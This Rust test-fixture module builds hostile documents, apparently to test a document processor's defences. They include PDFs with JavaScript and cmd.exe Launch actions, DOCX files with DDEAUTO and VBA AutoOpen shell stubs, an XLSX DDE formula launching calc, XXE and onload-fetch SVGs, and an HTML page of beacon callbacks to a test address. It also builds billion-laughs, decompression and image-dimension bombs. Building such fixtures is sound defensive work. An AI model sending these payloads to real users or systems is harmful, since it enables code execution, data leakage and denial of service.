//! Documents that want to be more than read: each asks for an address, for a program, or for more time and memory than anybody has.

use image::ImageFormat;

use crate::papers::{docx, mail, packed, pdf, pdf_of, picture, picture_bomb, xlsx};

/// A trap: what its file is called, and its bytes.
pub type Trap = (&'static str, Vec<u8>);

/// Traps that ask for `address` in every way that their kind knows; each says "Dear office" where its kind has words.
pub fn that_call(address: &str) -> Vec<Trap> {
    vec![
        ("acts.pdf", acting_pdf(address)),
        ("elsewhere.pdf", pdf_from_elsewhere(address)),
        ("picture.svg", svg(address).into_bytes()),
        ("macros.docx", docx_with_macros(address)),
        ("elsewhere.odt", odt_from_elsewhere(address)),
        ("elsewhere.xlsx", xlsx_from_elsewhere(address)),
        ("page.html", html(address).into_bytes()),
        ("newsletter.eml", html_mail(address)),
        ("elsewhere.eml", mail_from_elsewhere(address)),
        ("with a page.eml", mail("page@example.org", "With a page", "Dear office", &[("page.html", html(address).as_bytes())])),
    ]
}

/// Traps that are broken, turn in circles, or are far more than they seem.
pub fn that_burst() -> Vec<Trap> {
    let whole = pdf(&["Dear office"]);
    vec![
        ("cut.pdf", whole[..whole.len() * 2 / 3].to_vec()),
        ("without end.pdf", [&b"%PDF-1.7\n"[..], &[b'9'; 4096]].concat()),
        ("pages in a circle.pdf", circle_of_pages()),
        ("forms in a circle.pdf", circle_of_forms()),
        ("objects in a circle.pdf", circle_of_objects()),
        ("bomb.png", picture_bomb(50_000, 50_000)),
        ("bomb.jpg", jpeg_bomb()),
        ("bomb.gif", gif_bomb()),
        ("bomb.webp", webp_bomb()),
        ("bomb.docx", packed(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", &vec![b' '; 100 << 20])])),
        ("many.docx", packed_full(30_000)),
        ("deep.eml", deep_mail(100)),
        ("deep.html", [b"<!doctype html>".to_vec(), b"<div>".repeat(100_000), b"Dear office".to_vec()].concat()),
        ("laughs.svg", laughs("svg").into_bytes()),
        ("laughs.docx", packed(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", laughs("w:document").as_bytes())])),
    ]
}

/// Does something as it is opened, shown, clicked, printed and left.
fn acting_pdf(address: &str) -> Vec<u8> {
    let script = format!("app.launchURL\\('{address}/js'\\); this.submitForm\\('{address}/js-form'\\)");
    let actions = [
        format!("<< /S /JavaScript /JS ({script}) >>"),
        format!("<< /S /URI /URI ({address}/uri) >>"),
        "<< /S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) >> >>".to_owned(),
        format!("<< /S /SubmitForm /F << /FS /URL /F ({address}/form) >> /Flags 4 >>"),
        format!("<< /S /ImportData /F << /FS /URL /F ({address}/data) >> >>"),
        format!("<< /S /GoToR /F << /FS /URL /F ({address}/there.pdf) >> /D [0 /Fit] >>"),
    ];
    let [script, uri, launch, form, data, there] = &actions;
    let link = |action: &str| {
        format!("<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {action} /AA << /PO {action} /PV {action} /E {action} >> >>")
    };
    let words = "BT /F1 18 Tf 72 720 Td (Dear office) Tj ET";
    pdf_of(&[
        format!(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction {script} /AA << /WC {uri} /WP {form} /DP {data} >> /Names << /JavaScript << /Names [(a) {script}] >> >> /URI << /Base ({address}/base/) >> >>"
        ),
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>".to_owned(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O {uri} /C {there} >> /Annots [{} {} {} {}] >>",
            link(script),
            link(uri),
            link(launch),
            link(form)
        ),
        format!("<< /Length {} >>\nstream\n{words}\nendstream", words.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_owned(),
    ])
}

/// Its words, its picture and its typeface lie at the address.
fn pdf_from_elsewhere(address: &str) -> Vec<u8> {
    let there = |what: &str| format!("/F << /FS /URL /F ({address}/{what}) >>");
    pdf_of(&[
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 5 0 R /R 6 0 R >> /Font << /F1 7 0 R >> >> /Contents [4 0 R 9 0 R] >>".to_owned(),
        "<< /Length 49 >>\nstream\nq 500 0 0 800 0 0 cm /X Do /R Do Q BT /F1 9 Tf ET\nendstream".to_owned(),
        format!("<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0 {} >>\nstream\n\nendstream", there("picture")),
        format!("<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << {} /Page 0 >> /Length 0 >>\nstream\n\nendstream", there("form.pdf")),
        "<< /Type /Font /Subtype /TrueType /BaseFont /Elsewhere /FontDescriptor 8 0 R >>".to_owned(),
        "<< /Type /FontDescriptor /FontName /Elsewhere /Flags 4 /FontFile2 10 0 R >>".to_owned(),
        format!("<< /Length 0 {} >>\nstream\n\nendstream", there("words")),
        format!("<< /Length 0 {} >>\nstream\n\nendstream", there("typeface")),
    ])
}

fn circle_of_pages() -> Vec<u8> {
    pdf_of(&[
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Count 1000000 /Parent 3 0 R /Kids [3 0 R 2 0 R] >>".to_owned(),
        "<< /Type /Pages /Count 1000000 /Parent 2 0 R /Kids [2 0 R 3 0 R] >>".to_owned(),
    ])
}

fn circle_of_forms() -> Vec<u8> {
    let form = "<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >> >> /Length 11 >>\nstream\n/X Do /X Do\nendstream";
    pdf_of(&[
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>".to_owned(),
        "<< /Length 5 >>\nstream\n/X Do\nendstream".to_owned(),
        form.to_owned(),
    ])
}

/// Its length is itself, and its catalogue is a name for another name for it.
fn circle_of_objects() -> Vec<u8> {
    pdf_of(&["2 0 R".to_owned(), "1 0 R".to_owned(), "<< /Length 3 0 R >>\nstream\nx\nendstream".to_owned()])
}

/// Says in its frame header that it is as large as the form can say.
fn jpeg_bomb() -> Vec<u8> {
    let mut bytes = picture(16, 16, ImageFormat::Jpeg);
    let frame = bytes.windows(2).position(|two| two[0] == 0xFF && (0xC0..=0xC2).contains(&two[1])).expect("a JPEG has a frame");
    bytes[frame + 5..frame + 9].fill(0xFF);
    bytes
}

/// Says so of its screen, and of its first frame.
fn gif_bomb() -> Vec<u8> {
    let mut bytes = picture(16, 16, ImageFormat::Gif);
    bytes[6..10].fill(0xFF);
    let frame = bytes.windows(5).position(|five| five == [0x2C, 0, 0, 0, 0]).expect("a GIF has a frame");
    bytes[frame + 5..frame + 9].fill(0xFF);
    bytes
}

/// Says so behind the sign of its lossless form.
fn webp_bomb() -> Vec<u8> {
    let mut bytes = picture(16, 16, ImageFormat::WebP);
    let start = bytes.windows(4).position(|four| four == b"VP8L").expect("it is lossless") + 9;
    bytes[start..start + 3].fill(0xFF);
    bytes[start + 3] |= 0x0F;
    bytes
}

/// A ZIP of more files than any document has.
fn packed_full(files: usize) -> Vec<u8> {
    let names: Vec<String> = (0..files).map(|at| format!("word/media/{at}.png")).collect();
    let body = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>Dear office</w:t></w:r></w:p></w:body></w:document>";
    let mut parts: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"x"[..])).collect();
    parts.push(("word/document.xml", body.as_bytes()));
    packed(&parts)
}

/// Entities of entities of entities.
fn laughs(root: &str) -> String {
    let mut entities = "<!ENTITY l0 \"lol\">".to_owned();
    for at in 1..10 {
        entities += &format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10));
    }
    format!("<?xml version=\"1.0\"?><!DOCTYPE {root} [{entities}]><{root}>&l9;</{root}>")
}

fn svg(address: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><?xml-stylesheet href=\"{address}/sheet.css\"?><!DOCTYPE svg [<!ENTITY there SYSTEM \"{address}/entity\">]>\
         <svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"90\" height=\"90\" onload=\"fetch('{address}/onload')\">\
         <style>@import url({address}/import.css); rect {{ fill: url({address}/fill.svg#a) }}</style><script href=\"{address}/script.js\">fetch('{address}/script')</script>\
         <image href=\"{address}/image.png\" xlink:href=\"{address}/xlink.png\" width=\"9\" height=\"9\"/><use href=\"{address}/use.svg#a\"/>\
         <foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"{address}/frame\"/></foreignObject>\
         <text>Dear office &there;</text></svg>"
    )
}

/// A document whose template lies at the address, with macros that run as it opens.
fn docx_with_macros(address: &str) -> Vec<u8> {
    const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
    const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let outside = |kinds: &[&str]| {
        let one = |(at, kind): (usize, &&str)| {
            format!("<Relationship Id=\"rId{}\" Type=\"{OFFICE}/{kind}\" Target=\"{address}/{kind}\" TargetMode=\"External\"/>", at + 1)
        };
        format!("<Relationships xmlns=\"{PACKAGE}\">{}</Relationships>", kinds.iter().enumerate().map(one).collect::<String>())
    };
    let body = format!(
        "<w:document xmlns:w=\"{WORD}\" xmlns:r=\"{OFFICE}\"><w:body><w:p><w:r><w:t>Dear office</w:t></w:r><w:fldSimple w:instr=\"INCLUDEPICTURE &quot;{address}/field.png&quot;\"/>\
         <w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r><w:hyperlink r:id=\"rId2\"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p></w:body></w:document>"
    );
    let settings = format!("<w:settings xmlns:w=\"{WORD}\" xmlns:r=\"{OFFICE}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>");
    packed(&[
        ("[Content_Types].xml", b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
        ("word/document.xml", body.as_bytes()),
        ("word/_rels/document.xml.rels", outside(&["image", "hyperlink", "oleObject", "frame", "subDocument"]).as_bytes()),
        ("word/settings.xml", settings.as_bytes()),
        ("word/_rels/settings.xml.rels", outside(&["attachedTemplate"]).as_bytes()),
        ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1Sub AutoOpen() Shell \"cmd.exe\" End Sub"),
    ])
}

fn odt_from_elsewhere(address: &str) -> Vec<u8> {
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
         xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"><office:scripts><office:event-listeners><script:event-listener script:event-name=\"dom:load\" \
         xlink:href=\"{address}/script\" xlink:actuate=\"onLoad\"/></office:event-listeners></office:scripts><office:body><office:text>\
         <text:p>Dear office<draw:frame><draw:image xlink:href=\"{address}/image.png\" xlink:actuate=\"onLoad\"/><draw:object xlink:href=\"{address}/object\"/></draw:frame></text:p>\
         <text:section><text:section-source xlink:href=\"{address}/section.odt\"/></text:section></office:text></office:body></office:document-content>"
    );
    packed(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content.as_bytes())])
}

/// A spreadsheet whose cells ask for an address, and that links to another one.
fn xlsx_from_elsewhere(address: &str) -> Vec<u8> {
    let sheet = format!(
        "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Dear office</t></is></c><c r=\"B1\" t=\"str\"><f>WEBSERVICE(\"{address}/service\")</f><v>asked</v></c>\
         <c r=\"C1\"><f>[1]There!A1</f><v>1</v></c><c r=\"D1\" t=\"str\"><f>HYPERLINK(\"{address}/link\",\"here\")</f><v>here</v></c>\
         <c r=\"E1\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>"
    );
    let plain = xlsx(&[("Sheet", &sheet)]);
    let links = "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"/></externalLink>";
    let there = format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" \
         Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath\" Target=\"{address}/book.xlsx\" TargetMode=\"External\"/></Relationships>"
    );
    let connections = format!(
        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" refreshOnLoad=\"1\" type=\"4\"><webPr url=\"{address}/query\"/></connection></connections>"
    );
    let mut parts = unpacked(&plain);
    for (name, xml) in [
        ("xl/externalLinks/externalLink1.xml", links),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", &there),
        ("xl/connections.xml", &connections),
    ] {
        parts.push((name.to_owned(), xml.as_bytes().to_vec()));
    }
    let parts: Vec<(&str, &[u8])> = parts.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    packed(&parts)
}

/// The files of a ZIP that this test has made.
fn unpacked(zip: &[u8]) -> Vec<(String, Vec<u8>)> {
    use std::io::{Cursor, Read};

    let mut zip = zip::ZipArchive::new(Cursor::new(zip)).expect("it is a ZIP");
    let mut files = Vec::new();
    for at in 0..zip.len() {
        let mut file = zip.by_index(at).expect("it is there");
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).expect("memory is read");
        files.push((file.name().expect("it was given one").into_owned(), bytes));
    }
    files
}

/// Every way of a page to ask for an address without being asked to.
fn html(address: &str) -> String {
    format!(
        "<!doctype html><html manifest=\"{address}/manifest\"><head><base href=\"{address}/base/\"><meta http-equiv=\"refresh\" content=\"0; url={address}/refresh\">\
         <link rel=\"stylesheet\" href=\"{address}/sheet.css\"><link rel=\"prefetch\" href=\"{address}/prefetch\"><link rel=\"preload\" as=\"image\" href=\"{address}/preload\">\
         <link rel=\"preconnect\" href=\"{address}\"><link rel=\"dns-prefetch\" href=\"//unheard-of.invalid\"><link rel=\"icon\" href=\"{address}/icon\"><link rel=\"modulepreload\" href=\"{address}/module.js\">\
         <style>@import url(\"{address}/import.css\"); @font-face {{ font-family: x; src: url({address}/typeface.woff2) }} body {{ font-family: x; background: url({address}/background) }}</style>\
         <script src=\"{address}/script.js\"></script><script>fetch('{address}/fetch'); new Image().src = '{address}/image-js'; navigator.sendBeacon('{address}/beacon')</script></head>\
         <body background=\"{address}/body\" onload=\"location='{address}/onload'\"><p>Dear office</p>\
         <img src=\"{address}/image.png\" srcset=\"{address}/set.png 2x\" onerror=\"fetch('{address}/onerror')\"><img src=\"relative.png\"><picture><source srcset=\"{address}/source.png\"></picture>\
         <iframe src=\"{address}/frame\" srcdoc=\"<img src='{address}/srcdoc'>\"></iframe><object data=\"{address}/object\"></object><embed src=\"{address}/embed\"><video src=\"{address}/video\" poster=\"{address}/poster\" autoplay></video>\
         <audio src=\"{address}/audio\" autoplay></audio><svg><image href=\"{address}/svg.png\"/></svg><input type=\"image\" src=\"{address}/input\"><table background=\"{address}/table\"><tr><td>cell</td></tr></table>\
         <form action=\"{address}/form\" method=\"post\"><input name=\"a\" autofocus onfocus=\"this.form.submit()\"></form><a href=\"{address}/link\" ping=\"{address}/ping\">here</a>\
         <div style=\"background-image: url({address}/style)\">styled</div><math href=\"{address}/math\"></math><portal src=\"{address}/portal\"></portal></body></html>"
    )
}

fn html_mail(address: &str) -> Vec<u8> {
    let head = "Message-ID: <news@example.org>\r\nFrom: Ema Jankulova <ema@example.org>\r\nTo: Office <office@example.org>\r\nSubject: News\r\n\
        Date: Mon, 2 Nov 2026 08:15:00 +0100\r\nDisposition-Notification-To: ema@example.org\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n";
    format!(
        "{head}Content-Base: {address}/\r\nContent-Location: {address}/location\r\nList-Unsubscribe: <{address}/list>\r\n\r\n{}\r\n",
        html(address)
    )
    .into_bytes()
}

/// A mail whose text, whose file and whose style lie at the address.
fn mail_from_elsewhere(address: &str) -> Vec<u8> {
    format!(
        "Message-ID: <else@example.org>\r\nFrom: ema@example.org\r\nSubject: Elsewhere\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n\
         --B\r\nContent-Type: text/plain\r\n\r\nDear office\r\n\
         --B\r\nContent-Type: message/external-body; access-type=URL; URL=\"{address}/body\"\r\n\r\nContent-Type: text/plain\r\n\r\n\
         --B\r\nContent-Type: text/html\r\nContent-Location: {address}/part\r\n\r\n<img src=\"cid:there\"><img src=\"{address}/image.png\">Dear office\r\n\
         --B\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nATTACH:{address}/attach\r\nEND:VCALENDAR\r\n--B--\r\n"
    )
    .into_bytes()
}

/// A mail in a mail in a mail: each holds the next as it is.
fn deep_mail(depth: usize) -> Vec<u8> {
    let mut inner = "Message-ID: <0@example.org>\r\nFrom: ema@example.org\r\nSubject: innermost\r\n\r\nDear office\r\n".to_owned();
    for at in 1..=depth {
        inner = format!(
            "Message-ID: <{at}@example.org>\r\nFrom: ema@example.org\r\nSubject: around {at}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"B{at}\"\r\n\r\n\
             --B{at}\r\nContent-Type: text/plain\r\n\r\nDear office\r\n--B{at}\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--B{at}--\r\n"
        );
    }
    inner.into_bytes()
}

/// What is no trap: it is shown whatever was looked at before it.
pub fn harmless() -> Trap {
    ("good.docx", docx("<w:p><w:r><w:t>All is well</w:t></w:r></w:p>"))
}
